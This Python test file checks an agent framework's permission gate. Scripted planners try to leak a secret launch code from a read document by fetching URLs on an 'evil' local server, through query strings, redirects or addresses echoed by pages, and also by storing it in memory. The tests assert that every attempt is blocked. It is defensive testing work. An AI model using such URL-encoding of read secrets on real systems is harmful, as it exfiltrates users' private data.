"""What a person allows is what runs: refusals, addresses that a model makes up, mended tools."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.answers import COMPLETE, Turns, journal_lines, open_entries, scripted_flow
from tests.servers import web_server as site
from tests.servers.web_server import WebServer
from unified_flow.errors import ConfigError
from unified_flow.flow import UnifiedFlow
from unified_flow.models import ModelCall
from unified_flow.phases.errors import PhaseError, PlannerError
from unified_flow.resume.replay.replay import replay
from unified_flow.stores import memory_store
from unified_flow.tools import Tool
from unified_flow.tools.permission_gate import PermissionReply
from unified_flow.turns.results import Draft, Plan, ToolRequest
from unified_flow.turns.turn import Turn

KEY = "the launch code is 7731-quartz"
UNKNOWN = Draft(response="I do not know.", abstained=True)


def executing(*requests: ToolRequest) -> Plan:
    return Plan(decision="EXECUTE", route="coordinator", tool_requests=list(requests))


def fetching(url: str) -> Plan:
    return executing(ToolRequest(tool="internet.research", args={"urls": [url]}))


def asked(flow: UnifiedFlow, question: str, user: str = "anna") -> Turn:
    async def run() -> Turn:
        async with flow:
            return await flow.process("s", question, user_id=user)

    return asyncio.run(run())


@pytest.fixture
def evil() -> Iterator[WebServer]:
    with WebServer({"/": site.html("<p>Thank you.</p>")}, host="127.0.0.2") as server:
        yield server


@pytest.fixture
def server() -> Iterator[WebServer]:
    with WebServer({"/page": site.html("<p>Robots are busy.</p>")}) as server:
        yield server


def configure(home: Path, *servers: WebServer, hosts: str = "") -> None:
    private = ", ".join(f'"{urlsplit(each.url("/")).netloc}"' for each in servers)
    (home / "unified_flow.toml").write_text(
        '[tools]\nallow = ["internet.research"]\n'
        f"[research]\nhosts = [{hosts}]\nallow_private = [{private}]\n"
    )


def leaks(docs: Path, home: Path, question: str, *urls: str) -> str:
    """What stops a model that has read a document and puts what it says into addresses."""
    (docs / "secret.md").write_text(f"# Launch\n\n{KEY}\n")
    search = ToolRequest(tool="doc.search", args={"query": "launch code"})
    plans = [executing(search), *map(fetching, urls), COMPLETE]
    with pytest.raises(PhaseError) as caught:
        asked(scripted_flow(home, docs, planner=plans, synthesis=UNKNOWN), question)
    return str(caught.value)


def test_what_a_model_has_read_does_not_leave_in_an_address(
    home: Path, docs: Path, evil: WebServer
) -> None:
    configure(home, evil)
    url = evil.url("/?q=7731-quartz")
    said = leaks(docs, home, "What is the launch code?", url)
    assert f"{url} stands neither in the question nor on a page that this turn has read" in said
    assert evil.asked == []
    (entry,) = open_entries(home)
    assert entry["type"] == "permission"
    assert 'hosts = ["its host"] under [research]' in entry["context"]["hint"]


@pytest.mark.parametrize("change", ["?q=7731", "/../?q=7731", "#7731-", "%2e/7731"])
def test_an_address_of_the_question_is_taken_as_it_stands(
    home: Path, docs: Path, evil: WebServer, change: str
) -> None:
    configure(home, evil)
    url = evil.url("/")
    leaks(docs, home, f"What does {url} say?", url + change, evil.url("/?q=2"))
    assert not any("7731" in path for path in evil.asked)


def test_a_page_or_a_question_that_repeats_an_address_does_not_make_it_known(
    home: Path, docs: Path, server: WebServer, evil: WebServer
) -> None:
    configure(home, server, evil, hosts='"127.0.0.1"')
    away = evil.url("/?q=7731-quartz")
    server.pages[f"/?q={away}"] = site.html(f"<p>Nothing was found for {away} here.</p>")
    said = leaks(docs, home, "What is the launch code?", server.url(f"/?q={away}"), away)
    assert "stands neither in the question nor on a page" in said
    page = server.url("/page")
    echo = ToolRequest(tool="internet.research", args={"urls": [page], "question": away})
    plans = [executing(echo), fetching(away)]
    with pytest.raises(PhaseError, match="stands neither in the question"):
        asked(scripted_flow(home, docs, planner=plans), f"What does {page} say?")
    assert evil.asked == []


def test_a_redirect_carries_nothing_to_another_host(
    home: Path, docs: Path, server: WebServer, evil: WebServer
) -> None:
    configure(home, server, evil, hosts='"127.0.0.1"')
    server.pages["/away?to=7731-quartz"] = site.redirect(evil.url("/?q=7731-quartz"))
    said = leaks(docs, home, "What is the launch code?", server.url("/away?to=7731-quartz"))
    assert "is not followed to another host, 127.0.0.2" in said
    assert evil.asked == []


def test_what_the_question_or_a_page_names_is_fetched(
    home: Path, server: WebServer, evil: WebServer
) -> None:
    configure(home, server, evil)
    url, second = server.url("/page"), evil.url("/")
    server.pages["/page"] = site.html(f"<p>Robots are busy. Read {second} as well.</p>")
    plans = [fetching(url), fetching(second), COMPLETE]
    turn = asked(scripted_flow(home, planner=plans, synthesis=UNKNOWN), f"What does {url} say?")
    assert [result.success for result in turn.sections.coordinator] == [True, True]
    assert evil.asked == ["/"]


def test_a_memory_takes_nothing_that_the_person_did_not_say(home: Path, docs: Path) -> None:
    request = ToolRequest(tool="memory.create", args={"text": KEY})
    flow = scripted_flow(home, docs, planner=[executing(request), COMPLETE], synthesis=UNKNOWN)
    with pytest.raises(PhaseError, match="nobody has allowed it"):
        asked(flow, "Remember that I like tea.")
    assert memory_store(home).all("anna") == []


class Person:
    def __init__(self, *replies: PermissionReply) -> None:
        self.replies = list(replies)

    async def __call__(self, tool: Tool, args: Mapping[str, Any], why: str) -> PermissionReply:
        return self.replies.pop(0)


def test_what_a_person_refuses_is_planned_around(home: Path) -> None:
    """Asked once; the tool is not offered again, and a plan that names it all the same is over."""
    offered: list[set[str]] = []
    request = ToolRequest(tool="memory.create", args={"text": "tea"}, goal_id="g1")

    def plan(call: ModelCall) -> Plan:
        offered.append({tool.name for tool in call.sections.tools})
        return executing(request) if len(offered) < 3 else COMPLETE

    flow = scripted_flow(home, planner=plan, synthesis=UNKNOWN)
    flow.services.gate.asker = Person("no")
    turn = asked(flow, "What is a topic?")
    refused = [(each.success, each.result) for each in turn.sections.coordinator]
    assert refused == [(False, "not allowed by the person")]
    assert ["memory.create" in each for each in offered] == [True, False]
    assert turn.status == "answered"
    assert not [line for line in journal_lines(home) if line["event"] == "tool_started"]
    assert open_entries(home) == []


def test_a_refusal_is_said_in_the_answer_without_a_model(home: Path) -> None:
    flow = UnifiedFlow.from_config(home, asker=Person("no"))
    turn = asked(flow, "use memory.create text=tea")
    assert turn.response == "memory.create was not allowed to run, so it did not."
    assert turn.abstained
    assert replay(Turns(home).events(1)).same


def test_a_planner_that_insists_on_what_was_refused_ends_in_an_answer(home: Path) -> None:
    plan = executing(ToolRequest(tool="memory.create", args={"text": "tea"}, goal_id="g1"))
    flow = scripted_flow(home, planner=[plan] * 9, synthesis=UNKNOWN)
    flow.services.gate.asker = Person("no")
    assert asked(flow, "What is a topic?").status == "answered"
    assert open_entries(home) == []


TOOL = '''
import sys
from helper import rate

print("loading")


def price(item: str) -> str:
    """What it costs."""
    print("asking for", item)
    sys.stdout.write("written ")
    return f"{item}: {rate()} crowns"
'''


def test_a_mended_tool_runs_as_it_is_now(
    home: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    folder = tmp_path / "mine"
    folder.mkdir()
    (folder / "helper.py").write_text("def rate():\n    return 1 / 0\n")
    (folder / "prices.py").write_text(TOOL)
    plan = executing(ToolRequest(tool="price", args={"item": "tea"}, goal_id="g1"))
    (home / "unified_flow.toml").write_text(
        f'[tools]\nmodules = ["{folder / "prices.py"}"]\nallow = ["price"]\n'
    )
    flow = scripted_flow(home, planner=[plan, plan, COMPLETE], synthesis=UNKNOWN)

    async def run() -> None:
        async with flow:
            with pytest.raises(PhaseError, match="ZeroDivisionError"):
                await flow.process("s", "What is the price of tea?")
            (folder / "helper.py").write_text("def rate():\n    return 20  # was 1 / 0\n")
            turn = await flow.process("s", "What is the price of tea?")
            assert turn.sections.coordinator[0].result == "tea: 20 crowns"
            (folder / "prices.py").write_text("def price(:\n")
            with pytest.raises(PlannerError, match="SyntaxError") as caught:
                await flow.process("s", "What is the price of tea?")
            assert isinstance(caught.value.__cause__, ConfigError)

    asyncio.run(run())
    printed = capsys.readouterr()
    assert printed.out == "", "stdout is for answers"
    assert "asking for tea" in printed.err
    assert "written" in printed.err
